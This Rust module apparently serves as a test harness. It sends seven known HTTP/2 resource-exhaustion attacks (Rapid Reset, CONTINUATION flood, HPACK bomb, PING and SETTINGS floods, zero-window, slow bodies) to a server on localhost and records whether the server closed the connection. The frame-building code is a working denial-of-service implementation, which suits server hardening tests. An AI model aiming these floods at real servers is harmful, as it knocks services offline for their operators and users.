use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::time::timeout;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NEWEST, PING, RST_STREAM, SETTINGS,
    frame, get, indexed, preface,
};

/// A known way to wear out a server of HTTP/2 with one connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Http2Attack {
    /// Requests, each given up at once (CVE-2023-44487).
    RapidReset,
    /// One header block that never ends (CVE-2024-27316 and its kin).
    ContinuationFlood,
    /// Requests whose answers a window of nothing keeps at the server.
    ZeroWindow,
    /// Few bytes that unpack to many (CVE-2016-6581).
    HpackBomb,
    /// Pings, and no look at what comes back (CVE-2019-9512).
    PingFlood,
    /// Settings, and no look at what comes back (CVE-2019-9515).
    SettingsFlood,
    /// Requests with a body that never ends, a byte a frame.
    SlowBodies,
}

impl Http2Attack {
    /// All there are.
    pub const ALL: [Self; 7] = [
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::ZeroWindow,
        Self::HpackBomb,
        Self::PingFlood,
        Self::SettingsFlood,
        Self::SlowBodies,
    ];
}

/// How the server took it.
#[derive(Debug, Clone, Copy)]
pub struct Taken {
    /// Bytes it took before it closed the connection, or all there were.
    pub bytes: u64,
    /// Whether it closed the connection.
    pub is_closed: bool,
}

/// Attacks the clear-text listener at `port` over one connection with so many frames, for as long
/// as the server takes them, then stays for `stay` or until the server closes.
pub async fn attack_over_http2(
    kind: Http2Attack,
    port: u16,
    host: &str,
    path: &str,
    frames: u32,
    stay: Duration,
) -> io::Result<Taken> {
    let io = TcpStream::connect(("127.0.0.1", port)).await?;
    let (mut reader, mut writer) = io.into_split();
    // An attacker that leaves answers unread stops being read itself; those that need to go on read.
    let reads = !matches!(kind, Http2Attack::PingFlood | Http2Attack::SettingsFlood);
    let settings: &[(u16, u32)] = match kind {
        // SETTINGS_INITIAL_WINDOW_SIZE
        Http2Attack::ZeroWindow => &[(4, 0)],
        _ => &[],
    };
    let mut taken = Taken {
        bytes: 0,
        is_closed: false,
    };
    let sending = async {
        writer.write_all(&preface(settings)).await?;
        let mut batch = Vec::new();
        for number in 0..frames {
            batch.extend(part(kind, number, host, path));
            if batch.len() > 16 * 1024 || number + 1 == frames {
                writer.write_all(&batch).await?;
                taken.bytes += batch.len() as u64;
                batch.clear();
            }
        }
        Ok::<_, io::Error>(())
    };
    let is_over = async {
        let is_sent = if reads {
            tokio::select! {
                sent = sending => sent.is_ok(),
                () = read_all(&mut reader) => false,
            }
        } else {
            sending.await.is_ok()
        };
        // A write that fails says that the server closed; who sent all looks whether it does.
        !is_sent || timeout(stay, read_all(&mut reader)).await.is_ok()
    };
    // A server that neither reads nor closes holds an attacker that waits for it.
    let is_closed = timeout(stay * 2 + Duration::from_secs(30), is_over).await;
    taken.is_closed = is_closed.unwrap_or(false);
    Ok(taken)
}

/// Reads until the server closes.
async fn read_all(reader: &mut OwnedReadHalf) {
    let mut sink = vec![0; 64 * 1024];
    while matches!(reader.read(&mut sink).await, Ok(1..)) {}
}

fn part(kind: Http2Attack, number: u32, host: &str, path: &str) -> Vec<u8> {
    let stream = number * 2 + 1;
    let request = |flags| frame(HEADERS, flags, stream, &get(host, path));
    match kind {
        Http2Attack::RapidReset => {
            let mut bytes = request(END_HEADERS | END_STREAM);
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            bytes
        }
        Http2Attack::ContinuationFlood if number == 0 => request(END_STREAM),
        Http2Attack::ContinuationFlood => {
            let field = indexed(&format!("x-{number}"), &[b'a'; 2000]);
            frame(CONTINUATION, 0, 1, &field)
        }
        Http2Attack::ZeroWindow => request(END_HEADERS | END_STREAM),
        Http2Attack::HpackBomb => {
            let mut block = get(host, path);
            if number == 0 {
                block.extend(indexed("x-bomb", &[b'a'; 3900]));
            }
            block.extend([NEWEST; 8000]);
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
        }
        Http2Attack::PingFlood => frame(PING, 0, 0, &u64::from(number).to_be_bytes()),
        Http2Attack::SettingsFlood => {
            let mut payload = 4_u16.to_be_bytes().to_vec();
            payload.extend((1 + number % 60_000).to_be_bytes());
            frame(SETTINGS, 0, 0, &payload)
        }
        Http2Attack::SlowBodies if number < 100 => request(END_HEADERS),
        Http2Attack::SlowBodies => frame(DATA, 0, (number % 100) * 2 + 1, b"a"),
    }
}
